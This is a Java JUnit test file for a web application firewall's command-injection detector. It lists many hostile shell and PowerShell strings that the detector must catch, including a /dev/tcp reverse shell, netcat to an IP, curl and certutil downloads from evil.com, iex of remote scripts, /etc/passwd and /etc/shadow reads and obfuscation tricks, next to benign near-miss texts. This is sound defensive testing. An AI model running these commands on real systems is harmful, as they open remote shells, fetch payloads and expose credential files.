package dev.bastion.waf;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bastion.testing.Scaling;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The command-line detector on the shell's own syntax and its evasions (as the CRS 932 regression tests
 * send them, already URL- and entity-decoded), and on text that starts with, or holds after a semicolon,
 * a word that is also a command.
 */
class CommandInjectionDetectorTest {
    @ParameterizedTest
    @ValueSource(strings = {
            // a command after a separator
            ";ls", ";ps", ";who", ";id", "&aptitude", "';htop'", "\";htop\"", ";lastlog", ";lastlog -u root", ";env --version",
            ";perf --version", ";rmt --version", ";'rmt' --version", ";rmt-tar", "a; sh$XX -c whoami",
            "system('echo cd /tmp;wget http://x.example/a.png -O p2.txt')", ";'curl' http://evil.com", ";\"curl\" http://evil.com",
            ";find /etc -name passwd -exec cat {} +", "cd /;cd etc;column passwd", "cd /;cd etc;bridge -b passwd", "CD /;CD ETC;COMM PASSWD PASSWD",
            ";flock -u / whoami", ";cpulimit -l 100 -f whoami", ";trap 'rm -rf file.txt' SIGEXIT", "|$u wget test", ";base64 --decode /etc/passwd",
            ";gcc10.1<<<void main(){}", ";irb<<<1+2", ";c89 -wrapper sh,-c,id .", ";gdb -nx -ex !whoami -ex quit",
            ";`cat<<<sh -c whoami`", ";`cat<<<'ifconfig'`", ";`cat<<<$(ifconfig)`", "time; visudo", "time; chef-vault -i secret",
            "time; cscli alerts list", "time; ansible all -m ping", "\ncat /etc/passwd;", "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
            "printf dwssap/cte/ tac | rev | sh", "x | nc 10.0.0.1 4444", "foo`id`", "`ls -la`", "a && bash -i", "test@example.org\"|bcdboot %SYSTEMROOT%\\win.ini",
            // a command at the start of a value
            "ls foo bar", "ls -l /etc/passwd", "ls -la is a command", "cat /etc/passwd", "whoami;0'0'\"", "python3.10 cmd",
            "gunzip -c /var/log/x.gz", "'ZsTdcaT /var/log/x.zst", "busybox -c \"echo hi\"", "ksh -c \"curl google.\"COM",
            "c99 -wrapper sh,-c,curl google.com .", "aa-disable php-fpm", "ansible-galaxy collection install community.general",
            "ansible-console", "chef-shell", "visudo", "cscli alerts list", "'cscli' alerts list", "perf --version",
            "bash -c \"echo test\"", "\\ls", "strace ifconfig", "nohup ifconfig", "time ifconfig", "time sh -c whoami",
            "ti''me sh -c whoami", "'TiMe Sh -c whoami", "time bsdtar ", "tar -xzf /var/www/x.tar.gz /etc", "w\"h\"o'am'i;",
            "c\\at /etc/passwd", "c$@at /etc/passwd", "cat${IFS}/etc/passwd", "{cat,/etc/passwd}", "{l,-lh}s", "c{a,oun}t /etc",
            "{,ip,a}", "{,ifconfig}", "{,ifconfig,eth0}", "{id,}", "$SHELL -c \"echo hi\"", "${SHELL} -c \"echo hi\"",
            // paths to binaries, globs
            "/usr/bin/perl -e 'print readline' f", "/usr/bin/python3 -m http.server", "/bin/ab", "bin/ansible", "bin/chef",
            "bin/visudo", "/bi[n]/bash", "/usr/bin/[u]name -a", "/usr/[a-z]in/bash", "/bin/ca? /et*/passwd",
            "<!--#exec cmd=\"/bin/cat /etc/shadow\"-->", "/etc/pa[s]swd", "cat /[?]tc/pa[?]swd", "/etc/[!q]asswd", "ls /a[b///]c",
            "c?t /etc/passwd",
            // aliases
            "alias eennvv=env&eennvv whoami", "alias a=c${KK}url", "alias 'letter'=curl", "alias -p jzfrx=id", "alias +g+ a=b",
            "alias ..='cd ..'",
            // Windows and PowerShell
            "Invoke-WebRequest http://example.com/path/file.ps1", "Invoke-Expression -Command file.ps1", ";iwr http://x/file.ps1",
            ";iwmi -class Win32_process -name Create -ArgumentList cmd", ";iex (iwr http://10.0.10.10:8000/x.ps1)",
            "powershell C:\\windows\\system32\\notepad.exe", "; mshta http://example.com", "; certutil -urlcache -f http://evil.com/p.exe",
            "; regedit /E c:\\ads\\file.txt HKEY_CURRENT_USER\\Key", "view=image.jpg&bcdboot < file.txt", "view=image.jpg&bcdboot/r file.txt",
            "cmd /c whoami", "C:\\Windows\\System32\\cmd.exe /c whoami", "type C:\\boot.ini",
            // XML attribute values
            "<root><a probe=\"cat /etc/passwd\"></a></root>", "<a probe=\";ps\"></a>", "<a probe=\"c99 -wrapper sh,-c,curl google.com .\"></a>"})
    void commandLinesAreCaught(String value) {
        assertThat(CommandInjectionDetector.matches(value)).as(value).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            // the and the brief's near-misses
            "time is money", "cat food", "echo chamber", "who am I", "make it so", "find the best plan", "sort by date", "head office",
            "tail -end of year", "less is more", "more or less", "at 5pm", "test results", "date night", "yes please", "kill the lights",
            "select your plan from the list", "O'Brien", "<b>bold</b>", "Tom & Jerry; popcorn", "please update the docs", "1 OR 2 people",
            "drop me a line", "report.pdf", "john.doe@example.com", "$5.99", "2024-01-05", "https://example.com/a/b?c=d&e=f",
            "{\"name\":\"John Doe\",\"age\":\"30\"}", "[\"account\",\"sharing\"]", "Date & Time", "Copy/Paste", "net/gross", "start/stop",
            "Cut & Paste", "Find & Replace", "Make & Model", "Read more >>", "More >>", "time > money",
            // CRS must-pass texts
            "time warner", "time is of the essence", "time curl coreruleset.org", "time express", "time null space", "hello; time he came",
            "a hero; more than", "Times & Schedule", "ping pong tables", "ping 127.0.0.1", "find x for y", "head of", "kills foo bar",
            "tar is a dark brown or black bituminous usually odorous viscous liquid", "The zip on my coat is stuck", "regedit ", "base64",
            "lastlog", "lastlogin", "comment", "performance", ";environment", ";performance", "LS", "PS", "SU", "DF", "id", "Axel Smith",
            "Perlak", "Cronk", "queue/sendmails", "SUDoLongRandomString", "ls08e58tnf8b027oo1nr5sv3cc", "mail-unread", "pipaaaaaaaaaa",
            "dont match commands that are not fully qualified like bash python and perl.", "C:\\Windows\\System32\\ls", "\\",
            "Ihre kleine Schwester ist französisches Esskulturgut; man gönnt sie sich.",
            "Die untere Dortmunder Straße; links Haus Nr. 104, das stadteinwärts (rechts) längere Zeit ohne Nachbarhaus geblieben war.",
            "A brief overview of methods is presented here; for detailed coverage, see the cross-referenced articles.",
            "I have no money, but I'm gonna push through; if nothing happens by the end of next year, it's a sign I need to move back home.",
            "Back in the UK, we sped through in record time (less than 1 minute!) and uploaded this report",
            "Go to store.\nAt the store, shop.", "hello world (test)", "myfunction(){ echo hello }", "Some text (in brackets).",
            "hello [text in brackets]", "take this math expression: 1[a/-1]", "page[1]", "data[index]", "/pages/[slug].js", "/html/body/div[1]",
            "I see, so your alias is not = to your name", "The pizza vendor was known by the alias \"pineapple\" online.",
            "Invoke Web Request http://example.com/path/file.ps1", ";\"aaaaaaaaaaaaaaaa\"", ";'The quick brown fox jumped over the lazy dog'",
            "red;$5 each", "a;$3 b;$4 c;$5", ";$a $b $c", "|PG|XXX XXX Flash Sale", "{id,name}", "{cat,dog}", "`cut crs312``dig 34test`", "`make` is a build tool",
            "Compra a MODULAR ALUMINIO ESTRUCTURAL, STRUT PROFILE PG30 30X30 4 SLOTS | SELF TAPPING SCREW PG30 M1",
            "S: 220 foo.com Simple Mail Transfer Service Ready\nC: EHLO bar.com\nC: MAIL FROM:<Smith@bar.com>\nS: 250 OK",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><pdf>if foo==</pdf></note>", "wget doesn't work on my server.",
            "emacs is better than most editors, I think", "/[a-z]{1,5}/", "/[a-z]/", "printf(foo)",
            "gzip compression enabled", "nmap scan results attached", "gcc compiler version", "npm packages are great", "tmux config",
            "PowerShell 7 is out", "Docker Desktop", "Python 3.10 released", "SSH keys", "curl up with a good book", "PS I love you",
            "id 12345", "wget is not installed on the server",
            "Skills: Python; Bash; Docker; kubectl", "Linux; bash scripting; python", "Run `npm install` and then `npm start`",
            "use `git status` first", "the `grep` command", "Salt & pepper; to taste", "Mon|Tue|Wed", "name|date|size", "Q&A", "AT&T",
            "x=1;y=2", "(see attached)", "(who knows?)", "(yes)", "for (i = 0; i < n; i++) { sum += i; }", "$HOME is where the heart is",
            "John <john@x.com>; Jane <jane@y.com>", "50% off & free shipping | today only", "Net income: $5"})
    void textIsNot(String value) {
        assertThat(CommandInjectionDetector.matches(value)).as(value).isFalse();
    }

    /**
     * The benchmark's benign bodies (bench/waf.sh) and prose full of separators are not commands. Their cost is
     * measured by bench/jmh.sh DetectorBench (commandOnFormValues, commandOnProseWithSeparators), not asserted here.
     */
    @Test
    void benchmarkValuesAreNotCommands() {
        String[] values = {
                "You are a concise assistant for an internal engineering knowledge base. Answer in two sentences, cite the runbook section when one applies, and say so plainly when you are not sure.",
                "Our service returns intermittent 502 errors from the load balancer during deploys. What is the most likely cause, and what setting should we check first on the upstream pool to make rolling deploys graceful for in-flight requests? We run three replicas behind it.",
                "We would like to move our support team to the new plan next month. ".repeat(40), "Jane Doe", "Example Corp", "team", "25",
                "Tom & Jerry; popcorn, and then (for the record) a note with = and / in it: https://example.com/a?b=c&d=e. ".repeat(6)};
        for (String v : values) assertThat(CommandInjectionDetector.matches(v)).as(v).isFalse();
    }

    /** Hostile repetitions of up to 64 K units: eight times the input, not much more than eight times the time. */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"a;", "/[a", "{a,", "$"})
    void linearOnHostileInput(String unit) {
        // "$$$…{" ends with an open brace, the others with nothing; none is a command.
        String end = unit.equals("$") ? "{" : "";
        assertThat(CommandInjectionDetector.matches(unit.repeat(1 << 16) + end)).isFalse();
        Scaling.assertLinear(unit + "×n" + end, 1 << 13, n -> unit.repeat(n) + end, CommandInjectionDetector::matches);
    }
}
